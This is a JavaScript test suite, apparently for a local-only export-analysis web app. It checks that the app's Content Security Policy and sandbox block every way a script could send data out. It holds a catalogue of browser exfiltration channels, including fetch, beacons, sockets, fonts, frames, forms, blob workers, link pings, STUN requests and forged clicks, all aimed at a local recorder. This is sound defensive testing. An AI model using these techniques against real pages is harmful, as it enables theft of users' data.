// Nothing is uploaded, and the browser sees to it.

import assert from "node:assert/strict";
import { createSocket } from "node:dgram";
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { after, before } from "node:test";
import { journeyInFirefox, lockedFrame } from "./firefox.mjs";
import { accessibility, journey, locked, open, openServer, screenshot } from "./harness.mjs";
import { openHeld, settled, tweet, twitter, withFiles } from "./steps.mjs";

const CHANNELS = 19;
/** What the browser says of something that it refused. */
const REFUSALS = [/Content Security Policy|TrustedScriptURL|sandboxed|securitypolicyviolation|blocked|Blocked/];
/** Milliseconds in which a request that gets through has been seen. */
const PATIENCE = 700;
const sleep = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

const pickers = (page) => page.locator("[data-early], [data-pick]");
const dropZoneIsOpen = async (page) => (await pickers(page).count()) >= 2 && (await pickers(page).evaluateAll((all) => all.every((one) => !one.disabled)));

/**
 * Ways out, tried by a script where files are seen: each takes an address of somebody else's and says what became of it,
 * if that can be known. Those that would leave the page come last, each on a page of its own.
 */
const WAYS = {
  fetch: (url) => fetch(url).then(() => "sent", String),
  "fetch without asking the other side": (url) => fetch(url, { mode: "no-cors", method: "POST", body: "secret", keepalive: true }).then(() => "sent", String),
  XMLHttpRequest: (url) => new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.onerror = () => resolve("error");
    request.onload = () => resolve("sent");
    request.open("GET", url);
    request.send();
  }),
  WebSocket: (url) => {
    const socket = new WebSocket(url.replace("http", "ws"));
    return new Promise((resolve) => (socket.onerror = () => resolve("error")));
  },
  EventSource: (url) => void new EventSource(url),
  sendBeacon: (url) => navigator.sendBeacon(url, "secret"),
  "an image": (url) => void (new Image().src = url),
  "a picture in a style": (url) => void (document.body.style.backgroundImage = `url("${url}")`),
  "a font": (url) => new FontFace("leak", `url("${url}")`).load().then(() => "sent", String),
  "a video": (url) => void (document.createElement("video").src = url),
  "a style sheet": (url) => void document.head.append(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url })),
  "a prefetch": (url) => void document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: url })),
  "a preloaded module": (url) => void document.head.append(Object.assign(document.createElement("link"), { rel: "modulepreload", href: url })),
  "a script": (url) => void document.head.append(Object.assign(document.createElement("script"), { src: url })),
  "an import": (url) => import(url).then(() => "sent", String),
  "a frame": (url) => void document.body.append(Object.assign(document.createElement("iframe"), { src: url })),
  "a frame that is sent on": (url) => {
    const frame = document.createElement("iframe");
    document.body.append(frame);
    frame.contentWindow.location = url;
  },
  "an object": (url) => void document.body.append(Object.assign(document.createElement("object"), { data: url })),
  "a form": (url) => {
    const form = Object.assign(document.createElement("form"), { action: url, method: "post", target: "_blank" });
    document.body.append(form);
    form.submit();
  },
  "a worker of a blob": (url) => new Promise((resolve) => {
    const source = `fetch(${JSON.stringify(url)}, { mode: "no-cors" }).then(() => postMessage("sent"), (error) => postMessage(String(error)))`;
    const policy = globalThis.trustedTypes?.createPolicy ? (() => { try { return trustedTypes.createPolicy("leak", { createScriptURL: (text) => text }); } catch { return null; } })() : null;
    const blob = URL.createObjectURL(new Blob([source], { type: "text/javascript" }));
    const worker = new Worker(policy ? policy.createScriptURL(blob) : blob);
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = () => resolve("error");
  }),
  "window.open": (url) => window.open(url),
  "a link to a new window": (url) => Object.assign(document.createElement("a"), { href: url, target: "_blank" }).click(),
  "a link's ping": (url) => {
    const link = Object.assign(document.createElement("a"), { href: "#x", ping: url });
    document.body.append(link);
    link.click();
  },
  "a download": (url) => {
    const link = Object.assign(document.createElement("a"), { href: url, download: "leak.txt" });
    document.body.append(link);
    link.click();
  },
  "its own address": (url) => void location.assign(url),
  "a refresh": (url) => void document.head.append(Object.assign(document.createElement("meta"), { httpEquiv: "refresh", content: `0;url=${url}` })),
  "the address of the window": (url) => void (top.location.href = url),
  "a link of the window": (url) => Object.assign(document.createElement("a"), { href: url, target: "_top" }).click(),
};
/** After these the document may be another. */
const LEAVING = ["a form", "window.open", "a link to a new window", "a link's ping", "a download", "its own address", "a refresh", "the address of the window", "a link of the window"];
/** Firefox has these off, or says nothing to a page that has no user: what reaches nobody on an open page proves nothing on a locked one. */
const NOT_IN_FIREFOX = ["a link's ping"];
/** What the page loads, and what its service worker keeps of it. */
const OWN = ["GET /", "GET /cloutscope.wasm", "GET /example.json", "GET /icon.svg", "GET /icon-180.png", "GET /manifest.webmanifest", "GET /offline.js"];
const STAYING = Object.keys(WAYS).filter((name) => !LEAVING.includes(name));

let recorder;
let unlocked;
let root;

before(async () => {
  root = mkdtempSync(join(tmpdir(), "recorder-"));
  recorder = await openServer(root, () => ({ "access-control-allow-origin": "*" }));
  const plain = join(root, "plain");
  mkdirSync(plain);
  writeFileSync(join(plain, "index.html"), '<!doctype html><link rel="icon" href="data:,"><title>Not locked</title><body>');
  unlocked = await openServer(plain);
});

after(() => {
  recorder?.close();
  unlocked?.close();
  rmSync(root, { recursive: true, force: true });
});

const addressOf = (name) => `${recorder.url}leak-by-${name.replaceAll(/\W+/g, "-")}`;
const seen = (name) => recorder.hits.some((hit) => hit.includes(new URL(addressOf(name)).pathname));

/** Tries one way in a page or a frame: what the page was told of it, or thrown. */
async function tryWay(where, name) {
  const tried = where.evaluate(`(async () => {
    const heard = [];
    document.addEventListener("securitypolicyviolation", ({ effectiveDirective }) => heard.push(effectiveDirective));
    let came;
    try { came = await Promise.race([(${WAYS[name]})(${JSON.stringify(addressOf(name))}), new Promise((resolve) => setTimeout(resolve, ${PATIENCE / 2}))]); }
    catch (error) { came = String(error); }
    await new Promise((resolve) => setTimeout(resolve, 50));
    return JSON.stringify([typeof came === "object" && came ? "a window" : came, ...heard]);
  })()`);
  // A document that was left never answers.
  return Promise.race([tried.catch(String), sleep(2 * PATIENCE).then(() => "no answer")]);
}

/** Waits for a way's request; false if there is none in time. */
async function arrives(name, patience = 8000) {
  for (const end = Date.now() + patience; Date.now() < end; ) {
    if (seen(name)) return true;
    await sleep(20);
  }
  return false;
}

/** On a page without a lock each way reaches the recorder: it would be seen, if it did so on ours. */
async function recorderSees(goto, names) {
  const missed = [];
  const left = [...names];
  recorder.hits.length = 0;
  const some = async () => {
    for (let name = left.shift(); name; name = left.shift()) {
      await tryWay(await goto(unlocked.url), name);
      if (!(await arrives(name))) missed.push(name);
    }
  };
  await Promise.all([some(), some(), some()]);
  assert.deepEqual(missed, []);
}

const IN_CHROMIUM = Object.keys(WAYS);
const IN_FIREFOX = IN_CHROMIUM.filter((name) => !NOT_IN_FIREFOX.includes(name));

journey("on an open page the recorder sees every way out that is tried here", async ({ context }) => {
  await recorderSees(async (url) => {
    const page = await context.newPage();
    await page.goto(url);
    return page;
  }, IN_CHROMIUM);
}, { allow: [/./], timeout: 120_000 });

journey("a script among the files reaches nobody: not by a request, a frame, a worker, a form, a window or an address", async ({ page, server }) => {
  const told = [];
  page.shell.on("console", (message) => message.type() === "error" && told.push(message.text()));
  recorder.hits.length = 0;
  await open(page, server);
  for (const name of [...STAYING, ...LEAVING]) {
    if (LEAVING.includes(name)) await open(page, server);
    told.length = 0;
    const answer = await tryWay(page, name);
    await page.waitForTimeout(LEAVING.includes(name) ? PATIENCE : 100);
    assert.doesNotMatch(answer, /"sent"|a window/, `${name}: ${answer}`);
    const said = told.filter((text) => REFUSALS.some((known) => known.test(text)));
    assert.ok(said.length > 0 || /-src|form-action|Error/.test(answer), `the browser refused nothing: ${name}, ${answer}`);
    assert.equal(page.url(), server.url, name);
    assert.equal(page.context().pages().length, 1, name);
  }
  await page.waitForTimeout(PATIENCE);
  assert.deepEqual(recorder.hits, []);
  assert.deepEqual(server.hits.filter((hit) => !OWN.includes(hit)), []);
}, { allow: [/./], timeout: 180_000 });

journeyInFirefox("on an open page the recorder sees every way out that is tried here", async ({ page }) => {
  const context = page.browserContext();
  await recorderSees(async (url) => {
    const fresh = await context.newPage();
    await fresh.goto(url);
    return fresh;
  }, IN_FIREFOX);
}, { allow: [/./], timeout: 180_000 });

journeyInFirefox("a script among the files reaches nobody: not by a request, a frame, a worker, a form, a window or an address", async ({ page, server }) => {
  recorder.hits.length = 0;
  let frame;
  const begin = async () => {
    await page.goto(server.url);
    frame = await lockedFrame(page);
  };
  await begin();
  for (const name of [...STAYING, ...LEAVING].filter((one) => IN_FIREFOX.includes(one))) {
    if (LEAVING.includes(name)) await begin();
    const answer = await tryWay(frame, name);
    await sleep(LEAVING.includes(name) ? PATIENCE : 100);
    assert.doesNotMatch(answer, /"sent"|a window/, `${name}: ${answer}`);
    assert.equal(page.url(), server.url, name);
    assert.deepEqual(server.hits.filter((hit) => !OWN.includes(hit)), [], name);
  }
  await sleep(PATIENCE);
  assert.deepEqual(recorder.hits, []);
}, { allow: [/./], timeout: 180_000 });

journey("the shell is locked, too", async ({ page, server }) => {
  await open(page, server);
  recorder.hits.length = 0;
  for (const name of STAYING) {
    const answer = await tryWay(page.shell, name);
    assert.doesNotMatch(answer, /"sent"/, `${name}: ${answer}`);
  }
  await page.waitForTimeout(PATIENCE);
  assert.deepEqual(recorder.hits, []);
  assert.deepEqual(server.hits.filter((hit) => !OWN.includes(hit)), []);
}, { allow: [/./] });

journey("the shell takes nothing from the frame but a height, a checked fragment, the word of a drag and the wish to see the way to collect.html", async ({ page, server }) => {
  await open(page, server);
  const said = [
    { kind: "fragment", fragment: "#https://example.com/?secret=Mira Example" },
    { kind: "fragment", fragment: `?secret=${"x".repeat(10)}` },
    { kind: "fragment", fragment: "//example.com" },
    { kind: "fragment", fragment: `#a=${"x".repeat(3000)}` },
    ...["#leak=secrets", "#off=secrets", "#off=", "#profile=secrets", "#until=20240305", "#days=2024-03-05", "#since=xing", "#example=secrets", "#until=2024-03-05&until=2024-03-06"].map((fragment) => ({ kind: "fragment", fragment })),
    { kind: "height", height: "1px;background:url(/leak)" },
    { kind: "height", height: 1e9 },
    { kind: "start", engine: null },
    { kind: "open", url: "/leak" },
    { kind: "collect", language: "<b>" },
    "ready",
    null,
  ];
  const height = () => page.shell.evaluate(() => document.documentElement.style.getPropertyValue("--height"));
  const before = await height();
  await page.evaluate((messages) => messages.forEach((message) => parent.postMessage(message, "*")), said);
  await page.waitForTimeout(300);
  assert.equal(page.url(), server.url);
  assert.equal(await height(), before);
  assert.equal(await page.shell.locator("dialog[open]").count(), 0);
  const chosen = ["#profile=klout-2011&since=linkedin:2011-02-24,xing:2011-02-25&off=xing,mail&prestige=off&until=2011-02-28&days=2011-02-21..2011-02-23", "#off=xing", "#example&days=2011-02-21..2011-02-23", "#example"];
  for (const fragment of chosen) {
    await page.evaluate((said) => parent.postMessage({ kind: "fragment", fragment: said }, "*"), fragment);
    await page.shell.waitForFunction((said) => location.hash === said, fragment);
  }
  assert.deepEqual(server.hits.filter((hit) => !OWN.includes(hit)), []);
});

journey("a flood of messages from the frame changes the address and the cover once per picture, and no more", async ({ page, server }) => {
  await open(page, server);
  await page.shell.evaluate(() => {
    const { replaceState } = history;
    globalThis.changes = 0;
    history.replaceState = (...args) => {
      globalThis.changes++;
      replaceState.apply(history, args);
    };
  });
  const day = "2011-02-28";
  await page.evaluate((until) => {
    for (let n = 0; n < 20_000; n++) parent.postMessage(n % 2 ? { kind: "dragging" } : { kind: "fragment", fragment: "#off=xing" }, "*");
    parent.postMessage({ kind: "fragment", fragment: `#until=${until}` }, "*");
  }, day);
  await page.shell.waitForFunction((until) => location.hash === `#until=${until}`, day);
  assert.ok((await page.shell.evaluate(() => globalThis.changes)) < 1000);
});

journey("no file is taken until the network is locked, and what is chosen meanwhile waits for it", async ({ page, server }) => {
  const letGo = await openHeld(page, server);
  await withFiles(twitter([tweet(1, 7)]), async (path) => {
    // The start page is there as HTML before its script: either takes the choice.
    const chooser = page.shell.waitForEvent("filechooser");
    await page.getByRole("button", { name: "Choose files" }).first().click();
    await (await chooser).setFiles([path("twitter/data/account.js"), path("twitter/data/tweets.js")]);
    await page.getByText("The lock is closing.").waitFor();
    assert.equal(await page.locator("html").getAttribute("data-network"), "closing");
    assert.equal(await page.locator(".result, [data-phase]").count(), 0);
    assert.equal(page.workers().length, 0);
    letGo();
    await locked(page);
    await settled(page);
    assert.ok(await dropZoneIsOpen(page));
  });
});

journey("the page loads its own six files, and starts workers from blobs only", async ({ page, server }) => {
  const loaded = await open(page, server);
  // The page is asked for once more for the file to take along, where the browser hasn't kept it.
  assert.deepEqual([...new Set(loaded)].filter((hit) => !["GET /icon.svg", "GET /icon-180.png", "GET /manifest.webmanifest"].includes(hit)).sort(), ["GET /", "GET /cloutscope.wasm", "GET /example.json", "GET /offline.js"]);
  assert.deepEqual(loaded.filter((hit) => !OWN.includes(hit)), []);
  await page.getByRole("button", { name: "An example" }).click();
  await settled(page);
  assert.ok(page.workers().length > 0);
  assert.ok(page.workers().every((worker) => worker.url().startsWith("blob:")));
  // The service worker may still fetch what it keeps.
  assert.deepEqual(server.hits.filter((hit) => !OWN.includes(hit)), []);
});

journey("each of the ways out that can be seen from inside is refused, in the browser's own words", async ({ page, server }) => {
  await open(page, server);
  await page.getByRole("button", { name: "network locked" }).click();
  const dialog = page.getByRole("dialog", { name: "Try to break the lock" });
  await dialog.getByText(`This browser refused ${CHANNELS} ways`).waitFor({ timeout: 30_000 });
  const attempts = dialog.getByRole("listitem");
  assert.equal(await attempts.count(), CHANNELS);
  for (const attempt of await attempts.all()) {
    // No browser tells a page of every link in its head.
    const links = (await attempt.innerText()).startsWith("Links:");
    assert.equal(await attempt.getAttribute("data-outcome"), links ? "part" : "refused");
    assert.match(await attempt.innerText(), /-src|form-action|TrustedScriptURL|no window|Access is denied|publickey-credentials|opaque|sandboxed/, await attempt.innerText());
  }
  assert.deepEqual(await accessibility(page), []);
  await page.keyboard.press("Escape");
  await dialog.waitFor({ state: "detached" });
  assert.deepEqual(server.hits.filter((hit) => !OWN.includes(hit)), []);
}, {
  // Here the browser's complaints are the point.
  allow: [/Content Security Policy|TrustedScriptURL|sandboxed/],
});

journey("a browser that doesn't keep the lock never gets a file", async ({ page, server }) => {
  // As a browser that knows no policy would take it, the shell and the frame inside of it.
  await page.route(server.url, async (route) => {
    const response = await route.fetch();
    const html = await response.text();
    const open = html.replaceAll(/<meta http-equiv=("|&quot;)Content-Security-Policy\1 content=("|&quot;).*?\2>/g, "");
    assert.ok(html.length - open.length > 500);
    await route.fulfill({ response, body: open });
  });
  await page.goto(server.url);
  await locked(page, "open");
  await page.getByText("This browser did not refuse everything").waitFor();
  await page.getByRole("button", { name: "network not locked" }).waitFor();
  const buttons = page.locator("button[data-early]");
  assert.ok((await buttons.count()) >= 3);
  for (const button of await buttons.all()) assert.ok(await button.isDisabled());
  // What comes by a drop all the same is not read: neither as a cover's nor as the frame's own.
  await withFiles(twitter([tweet(1, 7)]), async (path) => {
    await page.locator("[data-pick=files]").first().setInputFiles([path("twitter/data/account.js"), path("twitter/data/tweets.js")]);
    await page.shell.evaluate(() => {
      const loose = [new File(["window.YTD.tweets.part0 = []"], "tweets.js")];
      document.querySelector("iframe").contentWindow.postMessage({ kind: "dropped", dropped: [], loose, unread: [] }, "*");
    });
    await page.waitForTimeout(500);
  });
  assert.equal(await page.locator(".result, [data-phase]").count(), 0);
  // The self-test's own worker ends; none with the engine starts.
  while (page.workers().length > 0) await page.waitForTimeout(50);
}, { allow: [/./] });

/** Somebody who waits for WebRTC's first packet; what it was asked. */
async function stun(use) {
  const socket = createSocket("udp4");
  const packets = [];
  socket.on("message", (packet) => packets.push(packet.length));
  await new Promise((resolve) => socket.bind(0, "127.0.0.1", resolve));
  try {
    await use({ server: `stun:127.0.0.1:${socket.address().port}`, packets });
  } finally {
    socket.close();
  }
}

/** In a page: asks a STUN server for its own address. */
const askStun = (urls) => {
  const connection = new RTCPeerConnection({ iceServers: [{ urls }] });
  connection.createDataChannel("leak");
  return connection.createOffer().then((offer) => connection.setLocalDescription(offer));
};

journey("what a policy can't refuse is taken away before anything is dropped", async ({ page, context, server }) => {
  const plain = await context.newPage();
  await plain.goto(unlocked.url);
  await stun(async ({ server: address, packets }) => {
    await plain.evaluate(askStun, address);
    for (let tries = 0; packets.length === 0 && tries < 200; tries++) await sleep(50);
    assert.ok(packets.length > 0, "an open page reaches it");
  });
  await plain.close();

  await open(page, server);
  const left = await page.evaluate(() =>
    ["RTCPeerConnection", "webkitRTCPeerConnection", "SharedWorker", "BroadcastChannel"].filter((name) => name in window),
  );
  assert.deepEqual(left, []);
  await stun(async ({ server: address, packets }) => {
    await assert.rejects(page.evaluate(askStun, address), /RTCPeerConnection is not defined/);
    await sleep(PATIENCE);
    assert.deepEqual(packets, []);
  });
  // The shell gives its service worker up; the frame has no origin, so neither one nor anything that is stored.
  assert.equal(await page.shell.evaluate(() => "serviceWorker" in navigator), false);
  assert.equal(await page.evaluate(() => window.origin), "null");
  for (const refused of [() => navigator.serviceWorker.getRegistrations(), () => localStorage.length, () => document.cookie, () => caches.keys()]) {
    await assert.rejects(page.evaluate(refused));
  }
});

journeyInFirefox("what a policy can't refuse is taken away before anything is dropped", async ({ page, server }) => {
  await page.goto(server.url);
  const frame = await lockedFrame(page);
  const left = await frame.evaluate(() => ["RTCPeerConnection", "webkitRTCPeerConnection", "SharedWorker", "BroadcastChannel"].filter((name) => name in window));
  assert.deepEqual(left, []);
  assert.equal(await page.evaluate(() => "serviceWorker" in navigator), false);
  assert.equal(await frame.evaluate(() => window.origin), "null");
});

/** In the frame, or on an open page: a link to somebody else all over it, plain or in a closed shadow; and clicks on it by a script. */
const plant = ([url, how]) => {
  const link = Object.assign(document.createElement("a"), { href: url, textContent: "x" });
  Object.assign(link.style, { position: "fixed", inset: 0, zIndex: 9999, display: "block" });
  const around = document.body.appendChild(document.createElement("div"));
  (how === "closed" ? around.attachShadow({ mode: "closed" }) : around).append(link);
  if (how !== "script") return "";
  try {
    document.open();
  } catch {}
  const clicks = [new MouseEvent("click", { bubbles: true, cancelable: true, ctrlKey: true }), new MouseEvent("click", { button: 1 })];
  // Events in disguise.
  clicks.push(Object.setPrototypeOf(new MouseEvent("click", { shiftKey: true }), Event.prototype));
  const said = [];
  for (const click of clicks) {
    try {
      EventTarget.prototype.dispatchEvent.call(link, click);
    } catch (error) {
      said.push(error.message);
    }
  }
  return said.join();
};
const REFUSED = Array(3).fill("No script clicks here").join();

/** A hand's click, by either driver. */
async function press(page, modifier, button) {
  await page.bringToFront();
  if (modifier) await page.keyboard.down(modifier);
  await page.mouse.click(300, 500, { button });
  if (modifier) await page.keyboard.up(modifier);
}

/** An open page reaches somebody else by such clicks; ours doesn't. Each is a function that opens it, and gives it with the document of files. */
async function clickAway({ fresh, ours }) {
  const reached = async (begin) => {
    const [page, where] = await begin();
    recorder.hits.length = 0;
    for (const how of ["open", "closed"]) {
      await where.evaluate(plant, [addressOf(`a click, ${how}`), how]);
      for (const modifier of ["Control", "Shift"]) await press(page, modifier, "left");
      await press(page, null, "middle");
      await sleep(PATIENCE);
    }
    const said = await where.evaluate(plant, [addressOf("a click, script"), "script"]);
    await sleep(PATIENCE);
    return [said, ["open", "closed", "script"].filter((how) => seen(`a click, ${how}`))];
  };
  const [, open] = await reached(fresh);
  assert.deepEqual(open.slice(0, 2), ["open", "closed"], "an open page reaches it");
  assert.deepEqual(await reached(ours), [REFUSED, []]);
}

journey("a click with Ctrl, with Shift or in the middle opens nobody's page, neither a hand's nor a script's", async ({ page, context, server }) => {
  await clickAway({
    fresh: async () => {
      const plain = await context.newPage();
      await plain.goto(unlocked.url);
      return [plain, plain];
    },
    ours: async () => {
      await open(page, server);
      return [page.shell, page];
    },
  });
}, { allow: [/./] });

journeyInFirefox("a click with Ctrl, with Shift or in the middle opens nobody's page, neither a hand's nor a script's", async ({ page, server }) => {
  await clickAway({
    fresh: async () => {
      const plain = await page.browserContext().newPage();
      await plain.goto(unlocked.url);
      return [plain, plain];
    },
    ours: async () => {
      await page.goto(server.url);
      return [page, await lockedFrame(page)];
    },
  });
}, { allow: [/./] });

for (const colorScheme of ["light", "dark"]) {
  for (const width of [1180, 360]) {
    journey(`the empty page is accessible, ${colorScheme}, ${width} pixels wide`, async ({ page, server }) => {
      await open(page, server);
      await page.getByText(/how to get each export/).waitFor();
      assert.deepEqual(await accessibility(page), []);
      assert.ok(await page.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
      assert.ok(await page.shell.evaluate(() => document.documentElement.scrollWidth <= innerWidth));
      await screenshot(page, `empty-${colorScheme}-${width}`);
    }, { context: { colorScheme, viewport: { width, height: 900 } } });
  }
}
